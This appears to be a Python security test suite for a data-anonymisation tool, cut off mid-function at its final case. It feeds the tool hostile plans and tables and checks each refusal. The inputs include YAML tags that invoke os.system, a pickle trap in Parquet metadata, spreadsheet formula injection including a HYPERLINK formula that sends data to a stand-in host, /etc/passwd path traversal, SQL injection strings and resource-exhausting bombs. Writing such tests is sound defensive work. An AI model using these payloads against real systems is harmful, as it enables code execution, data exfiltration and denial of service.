"""Input that means harm, or nothing at all: each case writes its files and says which command meets them.

Every bad file holds `CANARY`, a value that must turn up in no message and in nothing that is left behind.
``words`` is what the refusal must say. A case that is odd and not bad ends otherwise, and says how.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import struct
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

CANARY = "Qz9CANARYzQ"
TRAP = Path(tempfile.gettempdir()) / "anonflow-hostile-trap"
CORPUS = Path(__file__).parent / "corpus"
ESCAPE = "\\e[31m\\e]0;x\\a"

HEADER = "id,age,land,sex\n"
GOOD = "".join(f"{CANARY}{i},{20 + i % 50},{'DE' if i % 3 else 'FR'},{i % 2}\n" for i in range(60))
VARIABLES = (
    "{name: id, kind: nominal, role: identifier}",
    "{name: age, kind: continuous}",
    "{name: land, kind: nominal, role: quasi-identifier}",
    "{name: sex, kind: binary, levels: [0, 1]}",
)

Build = Callable[[Path], list[str]]


@dataclass(frozen=True)
class Case:
    """One input, the command that meets it, and what must come of it."""

    name: str
    build: Build
    words: str
    code: int = 2
    # Takes seconds, or gigabytes of address space: not part of the default tests.
    heavy: bool = False
    # What runs beside the command, such as a writer that never stops.
    beside: Callable[[Path], contextlib.AbstractContextManager[None]] = lambda _: contextlib.nullcontext()


CASES: list[Case] = []


def case(name: str, words: str, **more: Any) -> Callable[[Build], Build]:
    """Enter a function as a case."""

    def enter(build: Build) -> Build:
        CASES.append(Case(name, build, words, **more))
        return build

    return enter


# Writing files


def put(folder: Path, name: str, content: str | bytes) -> Path:
    """Write a file."""
    path = folder / name
    path.write_bytes(content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content)
    return path


def planned(
    folder: Path,
    *more: str,
    data: str | bytes | None = HEADER + GOOD,
    path: str = "people.csv",
    source: str | None = None,
    variables: tuple[str, ...] = VARIABLES,
    steps: str = "[{method: spectral-swap}]",
    name: str = "hostile",
    file: str = "plan.yaml",
) -> Path:
    """Write a plan and its table."""
    if data is not None:
        put(folder, path, data)
    text = [
        "anonflow: 1",
        f"name: {name}",
        f"source: {source or f'{{path: {path}}}'}",
        "variables:",
        *(f"  - {v}" for v in variables),
        f"steps: {steps}",
        *more,
        "",
    ]
    return put(folder, file, "\n".join(text))


def run(plan: Path) -> list[str]:
    """Return the command line that runs a plan."""
    return ["run", "--inline", str(plan)]


def check(plan: Path) -> list[str]:
    """Return the command line that checks a plan."""
    return ["check", str(plan)]


def whole_table() -> pa.Table:
    """Return the good table."""
    return pa.Table.from_pandas(pd.read_csv(io.StringIO(HEADER + GOOD)), preserve_index=False)


def parquet(table: pa.Table | None = None, **options: Any) -> bytes:
    """Return a Parquet file's bytes."""
    out = io.BytesIO()
    pq.write_table(whole_table() if table is None else table, out, **options)
    return out.getvalue()


# Plans: what YAML can be made to do


def yaml_case(name: str, words: str, *more: str, **options: Any) -> None:
    """Enter a good plan with more lines."""
    CASES.append(Case(f"plan: {name}", lambda folder: check(planned(folder, *more)), words, **options))


LONG_NAME = f"{{path: {'x' * 400}}}"
CASES.append(Case("plan: a source of a long name", lambda folder: check(planned(folder, source=LONG_NAME)), "no file"))

BOMB = ["a0: &a0 [x, x, x]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12))]
yaml_case("a bomb of aliases", "aliases", *BOMB)
yaml_case("an alias to itself", "aliases", "x: &a [*a]")
yaml_case("a merge key", "key << is not text", "<<: {name: other}")
yaml_case("a tag that makes a Python object", "constructor", "x: !!python/object/apply:os.system ['true']")
yaml_case("a tag that makes a module", "constructor", "x: !!python/module:os ''")
yaml_case("lists in lists", "inside each other", "x: " + "[" * 5000 + "]" * 5000)
yaml_case("keys in keys", "inside each other", "x: " + "{a: " * 3000 + "1" + "}" * 3000)
yaml_case("lists in lists by dashes", "inside each other", "x:", "  " + "- " * 5000 + "1")
yaml_case("a doubled key", "is given twice", "name: again")
yaml_case("an unknown key", "is not a key here", "souce: {path: people.csv}")
yaml_case("an unknown key with a million letters", "is not", f'"{"k" * 100_000}": 1')
yaml_case("ten thousand unknown keys", "and .* more; correct these first", *(f"k{i}: 1" for i in range(10_000)))
yaml_case("a number of 400 digits", "more than 18 digits", f"assessment: {{k: {'9' * 400}}}")
yaml_case("a number of a million digits", "cannot read", f"assessment: {{k: {'9' * 1_000_000}}}")
yaml_case("a million digits in hexadecimal", "cannot read", f"assessment: {{k: 0x{'f' * 1_000_000}}}")
yaml_case("a number in groups of sixty", "cannot read", "assessment: {k: 1" + ":59" * 500_000 + "}")
yaml_case("no number", "assessment.margin", "assessment: {margin: .nan}")
yaml_case("an infinite number", "assessment.margin", "assessment: {margin: -.inf}")
yaml_case("a float of a thousand digits", "assessment.margin", f"assessment: {{margin: 1e{'9' * 300}}}")
yaml_case("an empty whole number", "cannot read", 'assessment: {k: !!int ""}')
yaml_case("a truth value that is none", "cannot read", 'assessment: {exhaustive: !!bool "x"}')
yaml_case("a date that is none", "cannot read", 'publication: {title: !!timestamp "x"}')
yaml_case("a date beyond the calendar", "cannot read", "publication: {title: 9999-99-99}")
yaml_case("bytes for text", "cannot read", "publication: {title: !!binary aGVsbG8=}")
yaml_case("a set for a list", "by_design", "policy: {by_design: !!set {ambiguity}}")
yaml_case(
    "a terminal's escape sequences in a title",
    "title: must not hold control",
    f'publication: {{title: "{ESCAPE}"}}',
)
yaml_case(
    "writing direction in a contact",
    "contact: must not hold control",
    'publication: {contact: "x\\u202Eexe.txt"}',
)
yaml_case("half a letter in a title", "publication.title|UTF-8", 'publication: {title: "\\uD800"}')
yaml_case("escape sequences in a key", r"x1b\[31m.*: is not a key", f'"{ESCAPE}": 1')
yaml_case("a second document", "line", "---", "anonflow: 1")
yaml_case("a control character", "not readable YAML", 'x: "\x01"')
yaml_case("a million values", "more than 200000 values", "x: [" + "1," * 1_000_000 + "1]", heavy=True)
yaml_case(
    "more digits than a seed has",
    "more than 18 digits",
    f"seed: {{public: 1{'0' * 100}, data_are_public: true}}",
)
yaml_case("a clock that never rings", "schedule", 'schedule: {cron: "61 25 32 13 8"}')
yaml_case("a target that climbs", "climb|absolute", "publication: {to: [{folder: ../../../outside}]}")
yaml_case(
    "a target table with SQL in its name",
    "table",
    'publication: {to: [{table: "x; drop table y", database: D}]}',
)
yaml_case(
    "a secret with a path for a name",
    "must name a secret",
    "publication: {to: [{table: a.b, database: ../../etc/passwd}]}",
)
yaml_case(
    "a regression on SQL",
    "assessment",
    'assessment: {regressions: [{outcome: "x\'; drop table y", predictors: [age]}]}',
)


@case("plan: a measure of k beyond all records", "k")
def _(folder: Path) -> list[str]:
    return run(planned(folder, "assessment: {k: 999999999999999999}"))


@case("plan: SQL, HTML and markdown for a name", "name: ")
def _(folder: Path) -> list[str]:
    return check(planned(folder, name='"\'; drop table x; -- <script>alert(1)</script> [a](b)"'))


@case("plan: a path for a name", "name: ")
def _(folder: Path) -> list[str]:
    return check(planned(folder, name="../../outside"))


@case("plan: an edit of columns that are SQL", "names unknown variable")
def _(folder: Path) -> list[str]:
    return check(
        planned(folder, 'edits: {rules: [{edit: bound, name: e, variable: "age\'); drop table x; --", lower: 0}]}')
    )


@case("plan: a file called like escape sequences", r"\\x1b\[31m")
def _(folder: Path) -> list[str]:
    return check(put(folder, "\x1b[31mplan\n.yaml", f"{CANARY}: ["))


@case("plan: bytes that are no text", "not UTF-8")
def _(folder: Path) -> list[str]:
    return check(put(folder, "plan.yaml", b"anonflow: 1\nname: \xff\xfe" + CANARY.encode()))


@case("plan: UTF-16", "not UTF-8|not readable")
def _(folder: Path) -> list[str]:
    return check(put(folder, "plan.yaml", f"anonflow: 1\nname: {CANARY}\n".encode("utf-16")))


@case("plan: six million letters", "larger than 5 MB")
def _(folder: Path) -> list[str]:
    return check(put(folder, "plan.yaml", f"# {CANARY}\n" * 500_000))


@case("plan: a device that never ends", "cannot be read as a file")
def _(folder: Path) -> list[str]:
    return check(Path("/dev/zero"))


@case("plan: a pipe that nobody writes to", "cannot be read as a file")
def _(folder: Path) -> list[str]:
    os.mkfifo(folder / "plan.yaml")
    return check(folder / "plan.yaml")


@case("plan: a folder", "cannot be read as a file")
def _(folder: Path) -> list[str]:
    (folder / "plan.yaml").mkdir()
    return check(folder / "plan.yaml")


@case("plan: a link to itself", "cannot be read as a file")
def _(folder: Path) -> list[str]:
    (folder / "plan.yaml").symlink_to(folder / "plan.yaml")
    return check(folder / "plan.yaml")


@case("plan: a compressed file", "not UTF-8|not readable")
def _(folder: Path) -> list[str]:
    return check(put(folder, "plan.yaml", zlib.compress(CANARY.encode() * 1000)))


# Sources: where a path leads


def source_case(
    name: str, words: str, source: str, prepare: Callable[[Path], Any] = lambda _: None, **more: Any
) -> None:
    """Enter a plan whose source is somewhere else."""

    def build(folder: Path) -> list[str]:
        prepare(folder)
        return run(planned(folder, source=source, data=None))

    CASES.append(Case(f"source: {name}", build, words, **more))


def dangling(folder: Path) -> None:
    """Leave a link that leads nowhere."""
    (folder / "people.csv").symlink_to(folder / "gone")


def linked_folder(folder: Path) -> None:
    """Leave a folder with a link that leads out of it."""
    (folder / "parts").mkdir()
    put(folder, "outside.parquet", parquet())
    (folder / "parts" / "a.parquet").symlink_to(folder / "outside.parquet")


def odd_folder(folder: Path) -> None:
    """Leave a folder whose name, as a partition, climbs out."""
    (folder / "parts" / "..=x").mkdir(parents=True)
    (folder / "parts" / CANARY).mkdir(parents=True)
    put(folder / "parts" / CANARY, "a.parquet", parquet())


source_case("a device that never ends", "not an ordinary file", "{path: /dev/zero, format: csv}")
source_case("the terminal", "not an ordinary file|there is no file", "{path: /dev/tty, format: csv}")
source_case(
    "a pipe that nobody writes to",
    "not an ordinary file",
    "{path: people.csv}",
    lambda f: os.mkfifo(f / "people.csv"),
)
source_case(
    "a pipe for Parquet",
    "not an ordinary file",
    "{path: people.parquet}",
    lambda f: os.mkfifo(f / "people.parquet"),
)
source_case("a folder called like a file", "is a folder", "{path: people.csv}", lambda f: (f / "people.csv").mkdir())
source_case("an empty folder", "folder without Parquet", "{path: parts}", lambda f: (f / "parts").mkdir())
source_case("a folder with a link out of it", "links out of it", "{path: parts}", linked_folder)
source_case(
    "a folder of folders that are no partition",
    "not called name=value|name=value",
    "{path: parts}",
    odd_folder,
)
source_case("a link that leads nowhere", "there is no file", "{path: people.csv}", dangling)
source_case(
    "a file of the kernel larger than the disk",
    "larger than what is free|not be read|no readable|failed|there is no file",
    "{path: /proc/kcore, format: parquet}",
)
source_case("a password file as a table", "variables|column", "{path: ../../../../../../../etc/passwd, format: csv}")
source_case(
    "out of a package",
    "not inside the package",
    "{package: causaldata, path: ../../../../../../etc/passwd, format: csv}",
)
source_case(
    "an absolute path in a package",
    "not inside the package",
    "{package: causaldata, path: /etc/passwd, format: csv}",
)
source_case("a name with NUL", "there is no file", '{path: "people\\0.csv"}')
source_case("a name with escape sequences", r"\\x1b\[31m", f'{{path: "{ESCAPE}.csv"}}')
source_case("a name of 100 000 letters", "there is no file", f"{{path: {'x' * 100_000}.csv}}")
source_case("an address that climbs", "must not climb", "{path: 'file:///srv/../etc/passwd'}")
source_case(
    "an address that chains",
    "must be an address|one of these kinds",
    "{path: 'simplecache::https://example.org/a.csv'}",
)
source_case("an address with a password", "holds a password", "{path: 's3://me:secret@bucket/a.csv'}")
source_case("a device by address", "not an ordinary file", "{path: 'file:///dev/zero', format: csv}")
source_case(
    "a query that writes",
    "query|refused|failed",
    "{sql: 'create table x (a int)', url: 'sqlite:///people.db'}",
    lambda f: database(f),
)
source_case(
    "a query that attaches another file",
    "query|failed|no table",
    "{sql: \"attach database 'new.db' as n\", url: 'sqlite:///people.db'}",
    lambda f: database(f),
)
source_case(
    "two statements",
    "failed",
    "{sql: 'select 1; drop table people', url: 'sqlite:///people.db'}",
    lambda f: database(f),
)
source_case("an address that is no database", "cannot be read|no driver", "{sql: select 1, url: 'nonsense://x'}")
source_case(
    "an unknown encoding",
    "no encoding called",
    "{path: people.csv, encoding: klingon}",
    lambda f: put(f, "people.csv", HEADER + GOOD),
)
source_case(
    "an encoding that is none of text",
    "no encoding called",
    "{path: people.csv, encoding: base64}",
    lambda f: put(f, "people.csv", HEADER + GOOD),
)


def database(folder: Path) -> None:
    """Write an SQLite database."""
    import sqlite3

    with contextlib.closing(sqlite3.connect(folder / "people.db")) as connection:
        pd.read_csv(io.StringIO(HEADER + GOOD)).to_sql("people", connection, index=False)
        connection.commit()


# CSV


def csv_case(
    name: str,
    words: str,
    content: str | bytes | Callable[[], str | bytes],
    source: str | None = None,
    **more: Any,
) -> None:
    """Enter a CSV file that a good plan reads."""
    options = {k: more.pop(k) for k in ("variables",) if k in more}

    def build(folder: Path) -> list[str]:
        data = content() if callable(content) else content
        return run(planned(folder, data=data, source=source, **options))

    CASES.append(Case(f"csv: {name}", build, words, **more))


def changed(old: str, new: str, text: str = HEADER + GOOD) -> str:
    """Return the good table with one place changed."""
    assert old in text
    return text.replace(old, new, 1)


csv_case("a NUL byte", "NUL bytes", changed("DE", "D\0E"))
csv_case(
    "a NUL letter in UTF-16",
    "NUL bytes",
    changed("DE", "D\0E").encode("utf-16"),
    "{path: people.csv, encoding: utf-16}",
)
csv_case("nothing", "is empty", "")
csv_case("a header alone", "no records", HEADER)
csv_case("one record", "at least 4 statistical units", HEADER + f"{CANARY},1,DE,0\n")
csv_case("three records", "at least 4 statistical units", HEADER + "".join(f"{CANARY}{i},1,DE,0\n" for i in range(3)))
csv_case(
    "UTF-8 and Latin-1 mixed",
    "not utf-8",
    (HEADER + GOOD).encode() + f"{CANARY},5,Côte,1\n".encode("latin-1"),
)
csv_case(
    "UTF-8 and UTF-16 mixed",
    "NUL bytes|not utf-8",
    (HEADER + GOOD).encode() + f"{CANARY},5,DE,1\n".encode("utf-16"),
)
csv_case(
    "half a letter of UTF-16",
    "not utf-16",
    (HEADER + GOOD).encode("utf-16") + b"\x00\xd8x",
    "{path: people.csv, encoding: utf-16}",
)
csv_case("a formula", "begin like a formula", changed("DE", f"=cmd|' /C {CANARY}'!A0"))
csv_case("a formula behind a plus", "begin like a formula", changed("DE", f"+{CANARY}(A1)"))
csv_case("a formula behind a minus", "begin like a formula", changed("DE", f"-2+{CANARY}(A1)"))
csv_case("a formula behind an at sign", "begin like a formula", changed("DE", f"@SUM({CANARY})"))
csv_case("a formula behind a tab", "control characters, tabs", changed("DE", f"\t={CANARY}"))
csv_case("a formula behind a line end", "control characters, tabs", changed("DE", f'"\n={CANARY}"'))
csv_case("a level that writes to the terminal", "control characters", changed("DE", f"{CANARY}\x1b]0;pwn\x07"))
csv_case("a level that turns the writing", "control characters", changed("DE", f"{CANARY}\u202eevil"))
csv_case("a number near the largest there is", "beyond 1e100", changed(",20,", ",1.7e308,"))
csv_case("a formula in wide letters", "begin like a formula", changed("DE", f"＝{CANARY}"))
csv_case("a formula behind nothing", "begin like a formula", changed("DE", f"\u200b={CANARY}"))
csv_case(
    "a formula that fetches",
    "begin like a formula",
    changed("DE", f'"=HYPERLINK(""http://x/?{CANARY}"",""a"")"'),
)
csv_case("a formula for a number", "not a number", changed(",20,", f",={CANARY},"))
csv_case("a number of 400 digits", "too large", changed(",20,", f",{'9' * 400},"))
csv_case("a number of 100 000 digits", "age", changed(",20,", f",{'9' * 100_000},"))
csv_case("an infinite number", "infinite", changed(",20,", ",1e999,"))
csv_case("a field of 200 000 letters", "more than 131072 characters", changed("DE", CANARY * 20_000))
csv_case(
    "a field of 200 000 letters in quotes",
    "more than 131072 characters",
    changed("DE", '"' + f"{CANARY},\n" * 20_000 + '"'),
)
csv_case("a quote that never closes", "quotes", changed("DE", f'"{CANARY}'))
csv_case("a quote that never closes, before much", "131072 characters", changed("DE", f'"{CANARY}') + GOOD * 200)
csv_case("a record with more fields", "line 3|more fields", changed("DE", f"DE,{CANARY}"))
csv_case("a record with fewer fields", "fields", HEADER + GOOD + f"{CANARY},1\n")
csv_case(
    "a billion letters in a field",
    "16 million characters",
    lambda: HEADER.encode() + CANARY.encode() + b"9" * 1_000_000_000,
    heavy=True,
)
csv_case("a billion letters in a header", "16 million characters", lambda: b"9" * 1_000_000_000, heavy=True)
csv_case(
    "a billion letters in a field in UTF-16",
    "million characters|131072",
    lambda: HEADER.encode("utf-16") + "\u0a0a".encode("utf-16-le") * 100_000_000,
    "{path: people.csv, encoding: utf-16}",
    heavy=True,
)
csv_case(
    "ten thousand columns",
    "has 10000 columns; a table may have 5000",
    lambda: ",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join([CANARY] * 10_000) + "\n",
)
csv_case("columns without end", "columns", lambda: "a," * 3_000_000)
csv_case(
    "four thousand columns that nobody declared",
    "and 3986 more",
    lambda: HEADER.strip() + "".join(f",c{i}" for i in range(3996)) + "\n" + f"{CANARY},1,DE,0" + ",1" * 3996 + "\n",
)
csv_case("a column without a name", "without a name", changed("id,", "id,,", HEADER) + GOOD)
csv_case("a column twice", "columns twice", changed("id,", "id,age,", HEADER) + GOOD)
csv_case("a compressed file", "NUL bytes|not utf-8", zlib.compress((HEADER + GOOD).encode()))
csv_case("a spreadsheet", "none of the 4", lambda: spreadsheet())
csv_case("HTML", "none of the 4", f"<html><script>{CANARY}</script></html>\n" * 9)
csv_case("no header", "none of the 4", GOOD)


def spreadsheet() -> bytes:
    """Return what a spreadsheet programme would have saved."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("xl/worksheets/sheet1.xml", f"<v>{CANARY}</v>" * 500)
    return out.getvalue()


ALIKE = {
    "in Cyrillic": ("\u0430ge", r"'\\u0430ge'"),
    "with a space that is not drawn": ("age\u200b", r"'age\\u200b'"),
    "with the direction of writing": ("\u202aage", r"'\\u202aage'"),
    "in wide letters": ("\uff41ge", r"'\\uff41ge'"),
    "with a blank": ("age ", r"'age '"),
    "with a hard blank": ("age\u00a0", r"'age\\xa0'"),
}
for how, (twin, shown) in ALIKE.items():
    csv_case(
        f"a second age {how}",
        f"look alike.*{shown}",
        changed("age", f"age,{twin}", HEADER) + GOOD.replace(",DE", ",1,DE"),
    )
    csv_case(f"age itself {how}", f"(only look like|look alike).*{shown}", changed("age", twin, HEADER) + GOOD)
csv_case(
    "a name composed and taken apart",
    r"look alike: \(5 and 6\)",
    changed("sex", "sex,\u00e9,e\u0301", HEADER) + GOOD.replace("\n", ",1,1\n"),
)
csv_case(
    "a name composed and taken apart, declared",
    r"look alike: '\\xe9' and 'e\\u0301'",
    changed("sex", "sex,\u00e9,e\u0301", HEADER) + GOOD.replace("\n", ",1,1\n"),
    variables=(*VARIABLES, "{name: \u00e9, kind: continuous}", "{name: e\u0301, kind: continuous}"),
)


@case("csv: a column called like a formula", "names that a spreadsheet would take for formulas")
def _(folder: Path) -> list[str]:
    variables = (*VARIABLES[:3], "{name: \"=cmd|'/C calc'!A0\", kind: binary}")
    return run(planned(folder, data=changed("sex", "=cmd|'/C calc'!A0", HEADER) + GOOD, variables=variables))


@contextlib.contextmanager
def growing(folder: Path) -> Iterator[None]:
    """Go on writing to the table for as long as it is read."""
    done = threading.Event()

    def write() -> None:
        with (folder / "people.csv").open("a") as file:
            while not done.is_set():
                file.write(GOOD * 50)
                file.flush()
                time.sleep(0.0005)

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    try:
        yield
    finally:
        done.set()
        writer.join()


@case("csv: a file that grows while it is read", "changed while it was read", beside=growing, heavy=True)
def _(folder: Path) -> list[str]:
    return run(planned(folder, data=HEADER + GOOD * 20_000))


# Parquet and Stata


def parquet_case(name: str, words: str, content: Callable[[], bytes], suffix: str = "parquet", **more: Any) -> None:
    """Enter a file in another format that a good plan reads."""
    CASES.append(
        Case(
            f"{suffix}: {name}",
            lambda f: run(planned(f, data=content(), path=f"people.{suffix}")),
            words,
            **more,
        )
    )


def column(name: str, values: Any) -> pa.Table:
    """Return the good table with a column exchanged."""
    table = whole_table()
    return table.set_column(table.column_names.index(name), name, values)


def repeated(value: str, records: int) -> bytes:
    """Return a small file in which every record holds the same long text."""
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(records, dtype="int32")), [value])
    names = {
        "id": pa.nulls(records, pa.int8()),
        "age": pa.nulls(records, pa.int8()),
        "land": text,
        "sex": pa.nulls(records, pa.int8()),
    }
    return parquet(pa.table(names), compression="zstd")


def many_records(records: int, pieces: int) -> bytes:
    """Return a small file of records without end: what repeats costs nothing to write."""
    out = io.BytesIO()
    zeros = pa.array(np.zeros(records, dtype="int8"))
    table = pa.table({"id": zeros, "age": zeros, "land": zeros, "sex": zeros})
    with pq.ParquetWriter(out, table.schema, compression="zstd") as writer:
        for _ in range(pieces):
            writer.write_table(table)
    return out.getvalue()


def lists_without_end() -> bytes:
    """Return a small file in which a record holds millions of values."""
    n = 15_000_000
    lists = pa.ListArray.from_arrays(pa.array([0, n], pa.int32()), pa.array(np.zeros(n, dtype="int8")))
    return parquet(pa.table({"id": ["a"], "age": [1], "land": lists, "sex": [0]}), compression="zstd")


class Trap:
    """What a careless reader of metadata would carry out."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {TRAP}",)


def pickled() -> bytes:
    """Return a file whose metadata ask to be unpickled."""
    import pickle

    field = pa.field(
        "land", pa.string(), metadata={
            b"ARROW:extension:name": b"arrow.py_extension_type",
            b"ARROW:extension:metadata": pickle.dumps(Trap()),
        }
    )  # fmt: skip
    table = column("land", pa.array([f"={CANARY}"] * 60))
    schema = pa.schema([field if f.name == "land" else f for f in table.schema])
    return parquet(table.cast(schema).replace_schema_metadata({b"pandas": pickle.dumps(Trap())}))


def encrypted() -> bytes:
    """Return the good file with the mark of an encrypted one at both ends."""
    return b"PARE" + parquet()[4:-4] + b"PARE"


def stata() -> bytes:
    """Return the good table as a Stata file."""
    out = io.BytesIO()
    pd.read_csv(io.StringIO(HEADER + GOOD)).to_stata(out, write_index=False, version=118)
    return out.getvalue()


def elsewhere(content: bytes) -> bytes:
    """Return a Stata file whose parts are said to stand beyond its end."""
    at = content.index(b"<map>") + len(b"<map>")
    return content[:at] + struct.pack("<q", 2**40) * 14 + content[at + 14 * 8 :]


parquet_case("nothing", "is empty", lambda: b"")
parquet_case("garbage", "not a readable", lambda: CANARY.encode() * 99)
parquet_case("cut short", "not a readable", lambda: parquet()[:-30])
parquet_case("cut in the middle", "not a readable", lambda: parquet()[:1000])
parquet_case("the last bytes alone", "not a readable", lambda: parquet()[-200:])
parquet_case(
    "a length beyond the file",
    "not a readable",
    lambda: parquet()[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1",
)
parquet_case("encrypted", "not a readable", encrypted)
parquet_case("metadata that ask to be unpickled", "not a readable", pickled)
parquet_case("lists", "neither numbers nor text", lambda: parquet(column("land", pa.array([[CANARY]] * 60))))
parquet_case(
    "lists in lists",
    "neither numbers nor text",
    lambda: parquet(column("land", pa.array([[[[CANARY]]]] * 60))),
)
parquet_case("structures", "neither numbers nor text", lambda: parquet(column("land", pa.array([{"a": CANARY}] * 60))))
parquet_case("bytes", "neither numbers nor text", lambda: parquet(column("land", pa.array([CANARY.encode()] * 60))))
parquet_case(
    "dates",
    "neither numbers nor text",
    lambda: parquet(column("land", pa.array(np.zeros(60, dtype="M8[s]")))),
)
parquet_case("text with NUL", "NUL", lambda: parquet(column("land", pa.array([f"{CANARY}\0"] * 60))))
parquet_case("a formula", "begin like a formula", lambda: parquet(column("land", pa.array([f"=x({CANARY})"] * 60))))
parquet_case(
    "a column twice",
    "twice",
    lambda: parquet(pa.table([whole_table().column(i) for i in (0, 1, 1, 3)], names=["id", "age", "age", "sex"])),
)
parquet_case(
    "names that look alike",
    r"look alike.*\\u0430ge",
    lambda: parquet(whole_table().rename_columns(["id", "age", "\u0430ge", "sex"])),
)
parquet_case("no column", "columns|variables|not a readable", lambda: parquet(pa.table({})))
parquet_case("no record", "no records", lambda: parquet(whole_table().slice(0, 0)))
parquet_case("one record", "at least 4", lambda: parquet(whole_table().slice(0, 1)))
parquet_case(
    "ten thousand columns",
    "has 10000 columns",
    lambda: parquet(pa.table({f"c{i}": [1] for i in range(10_000)})),
)
parquet_case(
    "a field of 200 000 letters",
    "more than 131072 characters",
    lambda: parquet(column("land", pa.array([CANARY * 20_000] * 60))),
)
parquet_case(
    "a field of 300 million letters",
    "more than 131072 characters",
    lambda: repeated("x" * 300_000_000, 1),
    heavy=True,
)
parquet_case("one long text in every record", "GB of text", lambda: repeated(CANARY * 9000, 100_000), heavy=True)
parquet_case("two billion records in a few bytes", "million cells", lambda: many_records(20_000_000, 100), heavy=True)
parquet_case(
    "three hundred million records in a few bytes",
    "million cells",
    lambda: many_records(20_000_000, 15),
    heavy=True,
)
parquet_case("a record of fifteen million values", "neither numbers nor text", lists_without_end, heavy=True)
parquet_case("a CSV file", "not a readable", lambda: (HEADER + GOOD).encode())
parquet_case("garbage", "not a readable", lambda: CANARY.encode() * 99, "dta")
parquet_case("cut short", "not a readable|variables", lambda: stata()[:700], "dta")
parquet_case(
    "a billion records that are not there",
    "more than 1000 million cells",
    lambda: stata().replace(b"<N>" + struct.pack("<Q", 60), b"<N>" + struct.pack("<Q", 10**9)),
    "dta",
)
parquet_case(
    "more variables than there are",
    "not a readable",
    lambda: stata().replace(b"<K>" + struct.pack("<H", 4), b"<K>" + struct.pack("<H", 32767)),
    "dta",
)
parquet_case("UTF-8 and Latin-1 mixed", "not a readable", lambda: stata().replace(b"DE\0", b"\xd6\0\0"), "dta")
parquet_case("a map that leads elsewhere", "not a readable", lambda: elsewhere(stata()), "dta")


# The other commands that read tables: plan, assess, compare


def drafted(
    name: str,
    words: str,
    content: str | bytes | Callable[[], bytes] | None,
    file: str = "people.csv",
    **more: Any,
) -> None:
    """Enter a file of which a plan is to be drafted."""

    def build(folder: Path) -> list[str]:
        if content is None:
            os.mkfifo(folder / file)
        else:
            put(folder, file, content() if callable(content) else content)
        return ["plan", str(folder / file)]

    CASES.append(Case(f"draft: {name}", build, words, **more))


drafted("a pipe that nobody writes to", "not an ordinary file", None)
drafted("nothing", "is empty", "")
drafted("a NUL byte", "NUL bytes", changed("DE", "D\0E"))
drafted("no header", "looks like a record", f"1,{CANARY}@example.org,3\n" + f"2,{CANARY},4\n" * 9)
drafted("a column twice", "columns twice", changed("id,", "id,age,", HEADER) + GOOD)
drafted("names that look alike", r"look alike.*'\\u0430ge'|look alike", changed("sex", "\u0430ge", HEADER) + GOOD)
drafted(
    "ten thousand columns",
    "columns; a table may have",
    ",".join(f"c{i}" for i in range(10_000)) + "\n" + f"{CANARY}," * 9_999 + "1\n",
)
drafted(
    "eleven hundred columns",
    "a draft takes at most 1000",
    ",".join(f"c{i}" for i in range(1100)) + "\n" + ("1," * 1099 + "2\n") * 5,
)
drafted("a field of 200 000 letters", "131072 characters", changed("DE", CANARY * 20_000))
drafted("a line of 20 million letters", "16 million characters", lambda: b"x" * 20_000_000)
drafted("malformed Parquet", "not a readable", lambda: parquet()[:500] + CANARY.encode(), "people.parquet")
drafted("malformed Stata", "not a readable", lambda: stata()[:600] + CANARY.encode(), "people.dta")
drafted("a record of lists", "lists", lambda: parquet(column("land", pa.array([[CANARY]] * 60))), "people.parquet")
drafted("a name of escape sequences", r"\\x1b\[31m", "", "\x1b[31m.csv")
drafted("a format that is not read", "is not known by its name", f"{CANARY}", "people.docx")


@case("draft: a device that never ends", "not an ordinary file|is not known by its name")
def _(folder: Path) -> list[str]:
    (folder / "zero.csv").symlink_to("/dev/zero")
    return ["plan", str(folder / "zero.csv")]


def assessed(name: str, words: str, released: str | bytes, original: str | bytes = HEADER + GOOD, **more: Any) -> None:
    """Enter a release that is to be judged."""

    def build(folder: Path) -> list[str]:
        put(folder, "original.csv", original)
        return [
            "assess",
            str(put(folder, "released.csv", released)),
            "--original",
            str(folder / "original.csv"),
        ]

    CASES.append(Case(f"assess: {name}", build, words, **more))


assessed("nothing", "is empty", "")
assessed("another table", "none of the", "x,y\n" + "1,2\n3,4\n" * 5)
assessed("NUL", "NUL bytes", changed("DE", "D\0E"))
assessed("an original that is no text", "NUL|not utf-8|readable|latin", HEADER + GOOD, bytes(range(256)) * 50)
assessed("names that look alike", "look alike", changed("sex", "\u0430ge", HEADER) + GOOD)


@case("assess: a pipe that nobody writes to", "not an ordinary file")
def _(folder: Path) -> list[str]:
    os.mkfifo(folder / "released.csv")
    return ["assess", str(folder / "released.csv"), "--original", str(put(folder, "o.csv", HEADER + GOOD))]


def compared(name: str, words: str, *settings: str, **more: Any) -> None:
    """Enter settings that somebody types."""
    CASES.append(Case(f"compare: {name}", lambda f: ["compare", "--inline", str(planned(f)), *settings], words, **more))


compared("an unknown method", "no method that masks", "no-such-method")
compared("an unknown parameter", "does not set a parameter", "mdav:kk=5")
compared("an alias to itself", "not a value that YAML can read", "mdav:k=[&a [*a]]")
compared("a bomb of aliases", "not a value|no method|does not set", "mdav:k=[&a [1], [*a, *a]]")
compared("an empty whole number", "not a value that YAML can read", 'mdav:k=!!int ""')
compared("lists in lists", "not a value that YAML can read", "mdav:k=" + "[" * 20_000 + "]" * 20_000)
compared(
    "a tag that makes a Python object",
    "not a value that YAML can read",
    "mdav:k=!!python/object/apply:os.system [true]",
)
compared("a number of 5000 digits", "not a value", f"mdav:k={'9' * 5000}")
compared("colons alone", "no method", ":::")
compared("escape sequences", r"\\x1b\[31m", "\x1b[31mmdav")
compared("a thousand settings", "at most 100", " ".join(f"mdav:k={k}" for k in range(2, 1002)))
compared("no number", "k", "mdav:k=.nan")


# Odd, and accepted


@case("odd: repeating ids are one person's records", "", code=0)
def _(folder: Path) -> list[str]:
